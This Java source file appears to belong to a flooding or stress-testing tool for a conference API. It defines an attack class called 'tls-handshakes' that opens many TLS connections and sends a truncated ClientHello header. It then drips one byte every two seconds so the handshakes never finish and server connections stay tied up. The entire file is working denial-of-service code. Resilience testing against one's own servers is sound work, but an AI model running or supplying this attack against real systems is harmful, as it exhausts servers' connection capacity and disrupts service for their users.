package org.conferenceapi.flood;

import java.time.Duration;
import java.time.Instant;
import java.util.Arrays;

/**
 * TLS handshakes that never end: the head of a record that announces a ClientHello, and then a byte
 * of it now and then.
 */
record Handshakes(int connections) implements Attack {
  private static final Duration PAUSE = Duration.ofSeconds(2);
  private static final int MUCH = 16_384;

  /** RFC 8446, sections 5.1 and 4: a handshake record of 512 bytes with a ClientHello of 508. */
  private static final byte[] CLIENT_HELLO =
      Arrays.copyOf(new byte[] {22, 3, 1, 2, 0, 1, 0, 1, (byte) 0xfc, 3, 3}, 40);

  @Override
  public String name() {
    return "tls-handshakes";
  }

  @Override
  public void play(TargetServer target, Instant end) throws InterruptedException {
    try (Connections held = new Connections(target::connectTls, connections, CLIENT_HELLO)) {
      held.hold(new byte[1], MUCH, PAUSE, end);
    }
  }
}
